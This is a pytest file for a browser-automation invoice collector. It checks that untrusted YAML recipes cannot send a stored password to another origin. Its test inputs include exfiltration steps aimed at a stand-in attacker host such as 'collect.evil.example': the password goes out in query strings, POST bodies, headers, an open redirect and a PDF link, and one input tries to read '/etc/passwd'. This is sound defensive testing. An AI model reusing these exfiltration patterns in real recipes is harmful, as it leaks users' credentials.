"""Untrusted recipes cannot take a secret, or the browser, outside the provider's origins.

Each hostile recipe runs in real Chromium against a provider portal on one loopback origin,
while an "attacker" server on another origin records every request it receives: it must
receive nothing, whatever the recipe tries (literal, templated, through variables, in fetch
headers and bodies, through the page's own form, in a PDF link). The run ends RECIPE_UNSAFE
and says what was stopped. A provider that declares a second origin (`origins:`) logs in there."""

from __future__ import annotations

from pathlib import Path

import pytest
from flask import Flask, Response, redirect, request

from backend.collectors.language.catalog import load_file
from backend.collectors.run.origins import OriginGate, declared_origins, origin_of
from tests.helpers import make_pdf, run_recipe, serve

pytestmark = pytest.mark.browser

PASSWORD = "Tr3s-S3cret!pw"
PDF = make_pdf("origins FAC-1")


def portal_app(name: str, seen: list[str], form_action: str = "/login") -> Flask:
    """A login page (its form posts to `form_action`), an account page echoing the login, a PDF."""
    app = Flask(name)

    @app.before_request
    def record() -> None:
        seen.append(request.full_path + " " + request.get_data(as_text=True) + " " + str(dict(request.headers)))

    @app.route("/login", methods=["GET", "POST"])
    def login():
        if request.method == "POST":
            return f'<p id="echo">Mot de passe refusé : {request.form.get("password", "")}</p><a class="logout">x</a>'
        return (f'<form id="f" method="post" action="{form_action}"><input id="password" name="password">'
                '<button>OK</button></form>')

    @app.route("/go", methods=["GET", "POST"])
    def go():  # an open redirect on the provider's own site; 307 resends a POST's body
        return redirect(request.args["to"], 307)

    @app.get("/facture.pdf")
    def pdf() -> Response:
        return Response(PDF, mimetype="application/pdf")

    return app


@pytest.fixture(scope="module")
def servers():
    portal_seen: list[str] = []
    attacker_seen: list[str] = []
    with serve(portal_app("attacker", attacker_seen)) as attacker, \
            serve(portal_app("portal", portal_seen, form_action=f"{attacker}/login")) as portal:
        yield portal, attacker, attacker_seen


def provider(tmp_path: Path, steps: str, extra: str = ""):
    text = f"""providers:
  - id: hostile
    name: Hostile
    homepage: https://hostile.example
    category: énergie
    terms: {{version: "1", text: "t"}}
    credentials:
      - {{name: login, label_fr: Identifiant, label_en: Login}}
      - {{name: password, label_fr: Mot de passe, label_en: Password, type: password}}
    urls: {{portal: "http://127.0.0.1:9", other: "http://127.0.0.1:9"}}
{extra}    expect_invoices: false
    steps:
{steps}"""
    path = tmp_path / "hostile.yaml"
    path.write_text(text, encoding="utf-8")
    providers, errors = load_file(path)
    assert not errors, errors
    return providers[0]


def attack(servers, tmp_path, browser_config, steps: str):
    """Run the steps as a shared file would: the attacker's address hidden in a variable, since
    `recipe check` refuses it written out (test_a_written_address_elsewhere_is_refused_by_recipe_check)."""
    portal, attacker, seen = servers
    seen.clear()
    hidden = f'      - set: {{name: elsewhere, value: "{attacker}"}}\n' + steps.replace("ATTACKER", "{{ elsewhere }}")
    result = run_recipe(provider(tmp_path, hidden), browser_config,
                        {"login": "alice", "password": PASSWORD}, {"portal": portal, "other": portal},
                        out_dir=tmp_path / "out", default_step_timeout=5.0)
    return result, seen


ATTACKS = {
    "open with the password in the query": '      - open: "ATTACKER/steal?pw={{ password | url }}"\n',
    "open a templated file: address": '      - set: {name: target, value: "file:///etc/passwd"}\n'
                                      '      - open: "{{ target }}"\n',
    "fetch_json POST body": '      - fetch_json: {url: "ATTACKER/steal", method: POST, '
                            'body: {pw: "{{ password }}"}, save_as: x}\n',
    "fetch_api header": '      - fetch_api: {url: "ATTACKER/steal", headers: {X-Pw: "{{ password }}"}, '
                        'save_as: x}\n',
    "a value derived from the password, through a page and a variable":
        '      - open: "{{ urls.portal }}/login"\n'
        '      - fill: {locator: "#password", value: "{{ password }}"}\n'
        "      - store_text: {locator: \"#password\", attribute: value, save_as: first, regex: '^(.)'}\n"
        '      - open: "ATTACKER/c?{{ first }}"\n',
    "the page's own form posting elsewhere": '      - open: "{{ urls.portal }}/login"\n'
                                             '      - fill: {locator: "#password", value: "{{ password }}"}\n'
                                             '      - click: "#f button"\n',
    "fetch_json through the provider's own open redirect":
        '      - fetch_json: {url: "{{ urls.portal }}/go?to=ATTACKER/steal", method: POST, '
        'body: {pw: "{{ password }}"}, save_as: x}\n',
    "a PDF link built from the password": '      - open: "{{ urls.portal }}/login"\n'
                                          "      - invoices:\n"
                                          '          items: "form"\n'
                                          "          fields:\n"
                                          '            id: {value: "FAC-1"}\n'
                                          '            pdf: {value: "ATTACKER/p.pdf?{{ password | url }}"}\n',
}


@pytest.mark.parametrize("steps", ATTACKS.values(), ids=ATTACKS.keys())
def test_an_attack_is_stopped_before_anything_reaches_the_attacker(servers, tmp_path, browser_config, steps):
    result, seen = attack(servers, tmp_path, browser_config, steps)
    assert (result.outcome, seen) == ("RECIPE_UNSAFE", [])
    assert PASSWORD not in result.message
    assert "not one of the origins approved" in result.message or "http and https" in result.message


def test_a_written_address_elsewhere_is_refused_by_recipe_check(tmp_path):
    path = tmp_path / "hostile.yaml"
    path.write_text("""providers:
  - id: hostile
    name: Hostile
    homepage: https://hostile.example
    category: énergie
    terms: {version: "1", text: "t"}
    credentials:
      - {name: password, label_fr: Mot de passe, label_en: Password, type: password}
    urls: {portal: "https://portal.hostile.example"}
    steps:
      - open: "{{ urls.portal }}/login"
      - open: "https://collect.evil.example/c?p={{ password | url }}"
""", encoding="utf-8")
    providers, errors = load_file(path)
    assert providers == []
    assert [str(e) for e in errors] == [
        f"{path}:12:15: open: https://collect.evil.example is not one of this provider's origins "
        "(https://hostile.example, https://portal.hostile.example): add it to `origins:` if the provider really "
        "uses it (the user approves that list)"]


def test_the_form_posting_elsewhere_is_named(servers, tmp_path, browser_config):
    result, _ = attack(servers, tmp_path, browser_config, ATTACKS["the page's own form posting elsewhere"])
    assert result.message.startswith(f"typing a secret into a form that posts to {servers[1]}/login")


def test_a_declared_origin_is_where_the_login_may_go(servers, tmp_path, browser_config):
    """The same form, when the provider declares the second origin: the login is typed and sent."""
    portal, attacker, seen = servers
    seen.clear()
    steps = ('      - open: "{{ urls.portal }}/login"\n'
             '      - fill: {locator: "#password", value: "{{ password }}"}\n'
             '      - click: "#f button"\n'
             '      - wait_for: {present: "a.logout"}\n')
    declared = provider(tmp_path, steps, extra=f'    origins: ["{attacker}"]\n')
    result = run_recipe(declared, browser_config, {"login": "alice", "password": PASSWORD},
                        {"portal": portal, "other": portal}, out_dir=tmp_path / "out", default_step_timeout=5.0)
    assert result.outcome == "OK", result.message
    assert any(PASSWORD.replace("!", "%21") in line for line in seen)  # sent where the user agreed


def test_origins_are_scheme_host_and_port():
    assert origin_of("HTTPS://Espace.Example.fr:443/x?y=1") == "https://espace.example.fr"
    assert origin_of("http://127.0.0.1:5000/login") == "http://127.0.0.1:5000"
    assert [origin_of(u) for u in ("file:///etc/passwd", "data:text/html,x", "javascript:alert(1)")] == [None] * 3
    origins = declared_origins("https://www.example.fr", {"api": "https://api.example.fr/v1"},
                               ["https://*.auth.example.fr"])
    gate = OriginGate(origins, {PASSWORD})
    assert gate.allows("https://www.example.fr/") and gate.allows("https://sso.auth.example.fr/login")
    assert not gate.allows("https://www.example.fr.evil.test/") and not gate.allows("http://www.example.fr/")
    assert gate.holds_secret(f"https://x/?p={PASSWORD.replace('!', '%21')}")


def test_a_persistent_profile_keeps_no_history_of_the_addresses_visited(servers, tmp_path, browser_config):
    """An address may carry a token or a password (on the provider's own origin): the account's
    browser profile, kept between syncs, must not remember it."""
    import dataclasses
    import sqlite3

    portal = servers[0]
    steps = ('      - open: "{{ urls.portal }}/login?session={{ password | url }}"\n'
             '      - wait_for: {present: "form#f"}\n')
    profile = tmp_path / "profile"
    config = dataclasses.replace(browser_config, profile_dir=profile)
    result = run_recipe(provider(tmp_path, steps), config, {"login": "alice", "password": PASSWORD},
                        {"portal": portal, "other": portal}, out_dir=tmp_path / "out", default_step_timeout=5.0)
    assert result.outcome == "OK", result.message
    history = profile / "Default" / "History"
    if history.exists():
        with sqlite3.connect(history) as db:
            assert db.execute("SELECT url FROM urls").fetchall() == []
    kept = [p.name for p in profile.rglob("*") if p.is_file() and PASSWORD.encode() in p.read_bytes()]
    assert kept == []
